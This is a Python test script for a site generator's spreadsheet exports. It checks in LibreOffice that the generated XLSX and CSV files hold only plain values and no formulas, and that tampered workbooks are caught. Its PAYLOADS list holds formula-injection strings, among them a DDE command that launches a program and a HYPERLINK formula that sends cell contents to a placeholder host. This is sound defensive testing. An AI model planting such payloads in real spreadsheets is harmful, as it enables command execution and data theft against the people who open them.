"""Exports in LibreOffice: every cell of every sheet as the file says it, and no formula anywhere."""
import csv
import datetime
import json
import re
import shutil
import subprocess
import zipfile

import openpyxl
from openpyxl.utils import get_column_letter
from openpyxl.utils.datetime import to_excel

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"見る")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－2+3", "＠SUM(1)", "'=1+1", '"=1+1"', "=1+1\n=2+2", "=1+1,=2+2", "－", "-", "1/2", "2020-04-01", "TRUE", "0x7",
]


def differences(name, expected, shown):
    """`expected`: cells by place; `shown`: rows as LibreOffice has them."""
    problems, seen = [], {}
    for row, cells in enumerate(shown["cells"], 1):
        for column, value in enumerate(cells, 1):
            if value != "":
                seen[f"{get_column_letter(column)}{row}"] = value
    for place in sorted(expected.keys() | seen.keys()):
        if expected.get(place) != seen.get(place):
            problems.append(f"{name} {shown['name']}!{place}: {expected.get(place)!r} became {seen.get(place)!r}")
    if shown["formulas"]:
        problems.append(f"{name} {shown['name']}: formulas at {shown['formulas']}")
    return problems


def plain(value):
    """As LibreOffice tells a value."""
    if isinstance(value, (datetime.datetime, datetime.date)):
        return float(to_excel(value))
    return float(value) if isinstance(value, (int, float)) else value


def workbook(office, file, good=None):
    """The problems of a workbook, and how many cells were compared. `good`: the one that says what it should show."""
    book = openpyxl.load_workbook(good or file)
    merged = {sheet.title: [str(area) for area in sheet.merged_cells.ranges] for sheet in book}
    try:
        sheets = office.sheets(file, merged)
    except ValueError as error:
        return [f"{file.name}: {error}"], 0
    problems, count = [], 0
    if [sheet["name"] for sheet in sheets] != book.sheetnames:
        return [f"{file.name}: sheets {[sheet['name'] for sheet in sheets]} instead of {book.sheetnames}"], 0
    for sheet, shown in zip(book, sheets):
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        if formulas:
            problems.append(f"{file.name} {sheet.title}: formulas at {formulas[:3]}")
        count += len(cells)
        problems += differences(file.name, {cell.coordinate: plain(cell.value) for cell in cells}, shown)
        if shown["merged"] != merged[sheet.title]:
            problems.append(f"{file.name} {sheet.title}: merged cells {shown['merged'][:3]} instead of {merged[sheet.title][:3]}")
    return problems, count


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def same(text, value):
    """Whether LibreOffice has kept a field of a CSV file, typed as it thinks best."""
    if isinstance(value, str):
        return value == text
    if NUMBER.fullmatch(text):
        return value == float(text)
    day = re.fullmatch(r"([0-9]{4})-([0-9]{2})-([0-9]{2})", text)
    if day:
        return value == to_excel(datetime.date(*map(int, day.groups())))
    return text in ("true", "false") and value == float(text == "true")


def table(office, file):
    with open(file, encoding="utf-8-sig", newline="") as text:
        records = list(csv.reader(text))
    [shown] = office.sheets(file)
    problems = [f"{file.name}: formulas at {shown['formulas']}"] if shown["formulas"] else []
    if len(shown["cells"]) != len(records):
        problems.append(f"{file.name}: {len(records)} records became {len(shown['cells'])} rows")
    for line, (record, row) in enumerate(zip(records, shown["cells"]), 1):
        row = list(row) + [""] * (len(record) - len(row))
        problems += [f"{file.name}:{line}: {text!r} became {value!r}" for text, value in zip(record, row) if not same(text, value)]
    return problems, sum(len(record) for record in records)


def spoiled(file, folder):
    """Copies of a workbook that nobody may take for good: each is one that was changed after it was written."""
    with zipfile.ZipFile(file) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(name for name in sorted(parts) if re.fullmatch(rb".*<v>[0-9.]+</v>.*", parts[name], re.DOTALL) and "worksheets" in name)
    changes = {
        "formula": (rb"<v>([0-9.]+)</v>", rb"<f>1+1</f><v>\1</v>"),
        "part": (rb"(?s)<sheetData>.{400}.*", b""),
    }
    for name, (old, new) in changes.items():
        copy = folder / f"spoiled-{name}.xlsx"
        with zipfile.ZipFile(copy, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, content in parts.items():
                archive.writestr(part, re.sub(old, new, content, count=1) if part == sheet else content)
        yield copy
    cut = folder / "spoiled-cut.xlsx"
    cut.write_bytes(file.read_bytes()[: file.stat().st_size // 2])
    yield cut


def payload_data(folder):
    """A plan in which every free text of a line is a payload. JSON is YAML."""
    texts = list(enumerate(PAYLOADS))
    plan = {
        "title": "=1+1", "organisation": "+1+1", "period": {"from": "R2", "to": "R6"}, "levels": ["柱", "=LEVEL()"],
        "statuses": {"実施": "implemented", "=A1": "planned"}, "tags": {"@SUM(1)": "new"},
        "offices": [{"id": f"o{index}", "name": text} for index, text in texts],
        "indicators": [
            {"id": f"i{index}", "title": text, "unit": "人", "better": "neither", "targets": [{"qualitative": text}], "notes": [text]}
            for index, text in texts
        ],
        "measures": [{"id": "head", "title": "-2+3", "kind": "heading", "children": [
            {"id": f"m{index}", "label": "(1)", "title": text, "content": text, "offices": [f"o{index}"], "notes": [text]} for index, text in texts
        ]}],
    }
    edition = {
        "title": "@SUM(1)", "published": "2021-06-30", "notes": PAYLOADS,
        "measures": {
            f"m{index}": {"status": "=A1", "reason": text, "entries": [{"tag": "@SUM(1)", "text": text}], "results": [{"text": text}]}
            for index, text in texts
        },
        "indicators": {f"i{index}": {"period": "R2", "value": index, "note": text} for index, text in texts},
    }
    (folder / "plan").mkdir(parents=True)
    (folder / "site.yaml").write_text('title: "=1+1"\npublisher: "@SUM(1)"\n', "utf-8")
    (folder / "plan/plan.yaml").write_text(json.dumps(plan, ensure_ascii=False, indent=1), "utf-8")
    (folder / "plan/2020.yaml").write_text(json.dumps(edition, ensure_ascii=False, indent=1), "utf-8")


def check(office, site, mieruka, folder):
    """All workbooks of the site; workbook and tables of the payloads; and that spoiled ones are found."""
    problems, cells = [], 0
    books = sorted(site.glob("*/data/*.xlsx"))
    if not books:
        return [f"there is no workbook in {site}"], "nothing"
    for file in books:
        found, count = workbook(office, file)
        problems, cells = problems + found, cells + count
    for file in spoiled(books[-1], folder):
        if not workbook(office, file, good=books[-1])[0]:
            problems.append(f"{file.name} was taken for good")

    payload_data(folder / "payloads")
    made = subprocess.run([mieruka, "build", "--quiet", "--data", folder / "payloads", "--out", folder / "payload-site"], capture_output=True, text=True)
    if made.returncode:
        return problems + [f"the payloads cannot be built: {made.stdout}{made.stderr}"], "no payloads"
    # A carriage return, which may part lines for some program, does not come so far.
    (folder / "return").mkdir()
    (folder / "return/site.yaml").write_text('title: "\\r=1+1"\npublisher: 見本\n', "utf-8")
    refused = subprocess.run([mieruka, "check", "--data", folder / "return"], capture_output=True, text=True)
    if refused.returncode != 1 or "MR0116" not in refused.stdout + refused.stderr:
        problems.append(f"a carriage return is not refused: {refused.stdout}{refused.stderr}")
    data = folder / "payload-site/plan/data"
    found, count = workbook(office, data / "plan.xlsx")
    problems += found
    book = openpyxl.load_workbook(data / "plan.xlsx")
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    problems += [f"plan.xlsx does not say {text!r}" for text in PAYLOADS if text.strip() == text and "\n" not in text and text not in texts]
    tables, fields = sorted(data.glob("*.csv")), 0
    for file in tables:
        found, number = table(office, file)
        problems, fields = problems + found, fields + number
    # The same texts as they are, without what keeps them texts: if nothing happens, this check could not fail.
    bare = folder / "bare.csv"
    with open(bare, "w", encoding="utf-8", newline="") as text:
        csv.writer(text).writerows([[payload] for payload in PAYLOADS[:6]])
    if len(table(office, bare)[0]) < 3:
        problems.append("bare formulas are not taken for formulas: the check of the tables has no force")
    shutil.rmtree(folder / "payload-site")
    said = (f"{len(books)} workbooks with {cells} cells; of {len(PAYLOADS)} payloads {count} cells in the workbook "
            f"and {fields} fields in {len(tables)} tables; 3 spoiled workbooks and a bare table found")
    return problems, said
